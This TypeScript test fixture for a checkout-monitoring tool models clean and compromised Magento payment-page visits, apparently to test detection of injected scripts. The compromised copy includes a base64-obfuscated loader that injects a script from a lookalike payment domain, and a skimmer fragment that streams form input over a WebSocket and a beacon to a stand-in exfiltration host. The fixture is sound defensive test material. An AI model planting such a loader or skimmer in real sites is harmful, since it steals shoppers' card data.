import { createHash } from 'node:crypto';
import type { Evidence } from '../../core/evidence.js';
import type { PaymentPageVisit, SeenConnection, SeenScript } from '../../probes/browser/page-facts.js';

/**
 * Recorded payment-page visits shaped as headless Chromium reports a Magento 2.4 Luma checkout
 * over the DevTools protocol: RequireJS and the modules it loads after the page, the inline
 * bootstrap, Knockout's run-time template functions, a PSP's script with SRI from its own origin,
 * and — in the compromised copy — a skimmer injected at run time.
 */
export const STORE = 'https://shop.example.com/';
const STATIC = 'https://shop.example.com/static/version1732953600/frontend/Magento/luma/en_US';
export const PSP_SCRIPT = 'https://js.psp-example.com/v3/checkout.js';
export const PSP_API = 'https://api.psp-example.com';
export const SKIMMER_SCRIPT = 'https://js.strlpe.com/v3/m.js?i=7';
export const EXFIL = 'wss://cdn-metrics.example.net';

export const sha256 = (text: string): string => createHash('sha256').update(text).digest('base64');

const external = (url: string, body: string, extra: Partial<SeenScript> = {}): SeenScript => ({
  kind: 'external',
  url,
  origin: new URL(url).origin,
  sha256: sha256(body),
  excerpt: body.slice(0, 200),
  head: body.slice(0, 64 * 1024),
  sri: { present: false },
  ...extra,
});
const inline = (kind: 'inline' | 'dynamic', text: string, initiator?: string): SeenScript => ({
  kind,
  sha256: sha256(text),
  excerpt: text.slice(0, 200),
  head: text.slice(0, 64 * 1024),
  ...(initiator ? { initiator } : {}),
});
const conn = (kind: SeenConnection['kind'], url: string, initiator?: string): SeenConnection => ({
  kind,
  url,
  origin: new URL(url).origin,
  ...(initiator ? { initiator } : {}),
});
const seenAt = (url: string, status: number): Evidence => ({
  label: `Chromium GET ${url} → ${status}`,
  at: '2026-11-30T14:00:00.000Z',
  address: '203.0.113.10:443',
  facts: { url, status },
});

export const REQUIRE_JS = external(
  `${STATIC}/requirejs/require.js`,
  '/** vim: et:ts=4:sw=4:sts=4\n * @license RequireJS 2.3.7 Copyright jQuery Foundation and other contributors.\n */\nvar requirejs,require,define;(function(global,setTimeout){',
);
const REQUIRE_CONFIG = external(
  `${STATIC}/requirejs-config.js`,
  '(function(require){\n(function() {\nvar config = {\n    map: {\n        "*": {\n            "rowBuilder": "Magento_Theme/js/row-builder",',
);
const MIXINS = external(`${STATIC}/mage/requirejs/mixins.js`, "define('mixins', [\n    'module'\n], function (module) {\n    'use strict';", {
  initiator: REQUIRE_JS.url!,
});
// jQuery holds both fromCharCode and createElement("script"): a library file is not an encoded loader.
const JQUERY = external(
  `${STATIC}/jquery.js`,
  'jQuery v3.7.1 … String.fromCharCode(high + 0x10000) … script = document.createElement("script"); script.text = code;',
  { initiator: REQUIRE_JS.url! },
);
const CHECKOUT_VIEW = external(`${STATIC}/Magento_Checkout/js/view/payment.js`, "define([\n    'jquery',\n    'underscore',\n    'uiComponent',\n    'ko',", {
  initiator: REQUIRE_JS.url!,
});
const PSP_BODY = '/*! psp-example checkout.js v3.12.0 */(function(){"use strict";var e=window.PspCheckout={};';
export const PSP = external(PSP_SCRIPT, PSP_BODY, {
  sri: { present: true, integrity: `sha256-${sha256(PSP_BODY)}`, matched: true },
  initiator: CHECKOUT_VIEW.url!,
});
export const INLINE_BOOT = inline('inline', `require.config({"baseUrl":"${STATIC}"});`);
const INLINE_CHECKOUT = inline(
  'inline',
  'window.checkoutConfig = {"formKey":"Qe2pL0g8xXGDuIKf","isCustomerLoggedIn":false,"payment":{"psp":{"publicKey":"pk_live_51H"}}};',
);
const KNOCKOUT_BINDING = inline(
  'dynamic',
  "with($context){with($data||{}){return{'text':function(){return getTitle() }}}}",
  `${STATIC}/knockoutjs/knockout.js`,
);

export const CSP_ENFORCED =
  "default-src 'self'; script-src 'self' 'nonce-bWFnZW50b05vbmNlMQ==' https://js.psp-example.com; connect-src 'self' https://api.psp-example.com; frame-ancestors 'self'";
export const CHECKOUT_HEADERS: Readonly<Record<string, string>> = {
  'content-security-policy': CSP_ENFORCED,
  'x-frame-options': 'SAMEORIGIN',
  'strict-transport-security': 'max-age=31536000',
  'x-content-type-options': 'nosniff',
};

const checkout = (scripts: SeenScript[], connections: SeenConnection[], headers = CHECKOUT_HEADERS): PaymentPageVisit => ({
  path: '/checkout/',
  finalUrl: 'https://shop.example.com/checkout/#shipping',
  status: 200,
  headers,
  scripts,
  connections,
  evidence: seenAt('https://shop.example.com/checkout/', 200),
});

const CLEAN_CHECKOUT_SCRIPTS = [REQUIRE_JS, REQUIRE_CONFIG, INLINE_BOOT, INLINE_CHECKOUT, MIXINS, JQUERY, CHECKOUT_VIEW, KNOCKOUT_BINDING, PSP];
const CLEAN_CONNECTIONS = [
  conn(
    'xhr',
    'https://shop.example.com/customer/section/load/?sections=cart%2Cdirectory-data&force_new_section_timestamp=false&_=1732953600123',
    `${STATIC}/jquery.js`,
  ),
  conn('fetch', `${PSP_API}/v1/sessions`, PSP_SCRIPT),
  conn('form-action', 'https://shop.example.com/checkout/onepage/saveOrder/'),
];

const cart: PaymentPageVisit = {
  path: '/checkout/cart/',
  finalUrl: 'https://shop.example.com/checkout/cart/',
  status: 200,
  headers: { 'x-frame-options': 'SAMEORIGIN', 'strict-transport-security': 'max-age=31536000', 'x-content-type-options': 'nosniff' },
  scripts: [REQUIRE_JS, REQUIRE_CONFIG, INLINE_BOOT, MIXINS, JQUERY],
  connections: [CLEAN_CONNECTIONS[0]!],
  evidence: seenAt('https://shop.example.com/checkout/cart/', 200),
};

/** The store as deployed and reviewed. */
export const cleanVisits = (): PaymentPageVisit[] => [cart, checkout(CLEAN_CHECKOUT_SCRIPTS, CLEAN_CONNECTIONS)];

// The skimmer: an inline loader injected after load decodes its script URL and adds it; the
// script then streams field values to a WebSocket and a beacon. Nothing of it is in the HTML.
const LOADER_TEXT =
  "(function(){var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9qcy5zdHJscGUuY29tL3YzL20uanM/aT03');document.head.appendChild(s)})();";
export const LOADER = inline('dynamic', LOADER_TEXT, `${STATIC}/Magento_Checkout/js/view/payment.js`);
export const SKIMMER = external(SKIMMER_SCRIPT, "var w=new WebSocket('wss://cdn-metrics.example.net/s');document.addEventListener('input',function(e){", {
  initiator: 'inline',
});

export const compromisedVisits = (): PaymentPageVisit[] => [
  cart,
  checkout(
    [...CLEAN_CHECKOUT_SCRIPTS, LOADER, SKIMMER],
    [...CLEAN_CONNECTIONS, conn('websocket', `${EXFIL}/s`, SKIMMER_SCRIPT), conn('beacon', 'https://cdn-metrics.example.net/b', SKIMMER_SCRIPT)],
  ),
];

/** The checkout page with other headers or scripts, for edge cases. */
export const checkoutWith = (
  scripts: SeenScript[],
  headers: Readonly<Record<string, string>> = CHECKOUT_HEADERS,
  connections = CLEAN_CONNECTIONS,
): PaymentPageVisit => checkout(scripts, connections, headers);

export { conn, external, inline };

/** The reviewed inventory of the clean store, as a team writes it. */
export const CLEAN_INVENTORY = `scripts:
  - urlPattern: "${STATIC.replace('version1732953600', 'version*')}/**"
    justification: Magento storefront and checkout modules of our release, loaded by RequireJS
    approvedBy: Dana Reyes (eCommerce lead)
    approvedOn: 2026-11-02
  - url: ${PSP_SCRIPT}
    sha256: sha256-${sha256(PSP_BODY)}
    justification: Card fields of our payment provider (hosted fields keep card data off our pages)
    approvedBy: Dana Reyes (eCommerce lead)
    approvedOn: 2026-11-02
  - inlineSha256: sha256-${INLINE_BOOT.sha256}
    justification: RequireJS base URL bootstrap written by Magento into every page
    approvedBy: Dana Reyes (eCommerce lead)
    approvedOn: 2026-11-02
  - inlineSha256: ${INLINE_CHECKOUT.sha256}
    justification: checkoutConfig bootstrap of Magento_Checkout
    approvedBy: Dana Reyes (eCommerce lead)
    approvedOn: 2026-11-02
  - inlineSha256: ${KNOCKOUT_BINDING.sha256}
    justification: Knockout binding of the payment step title, compiled by knockout.js at run time
    approvedBy: Dana Reyes (eCommerce lead)
    approvedOn: 2026-11-02
connections:
  - origin: ${PSP_API}
    justification: Payment provider API the card fields talk to
headers:
  /checkout/:
    content-security-policy: "default-src 'self'; script-src 'self' 'nonce-b3RoZXJOb25jZQ==' https://js.psp-example.com; connect-src 'self' https://api.psp-example.com; frame-ancestors 'self'"
    x-frame-options: SAMEORIGIN
    strict-transport-security: max-age=31536000
    x-content-type-options: nosniff
  /checkout/cart/:
    x-frame-options: SAMEORIGIN
    strict-transport-security: max-age=31536000
    x-content-type-options: nosniff
`;
